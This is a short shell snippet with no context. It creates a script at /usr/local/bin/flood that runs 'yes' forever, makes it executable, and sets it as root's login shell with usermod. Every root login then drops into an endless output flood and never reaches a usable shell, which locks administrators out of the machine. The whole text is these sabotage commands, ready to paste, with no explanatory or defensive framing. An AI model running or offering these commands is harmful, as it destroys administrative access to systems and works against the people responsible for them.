printf '#!/bin/sh\nexec yes "no end to this"\n' >/usr/local/bin/flood
chmod 755 /usr/local/bin/flood
usermod -s /usr/local/bin/flood root
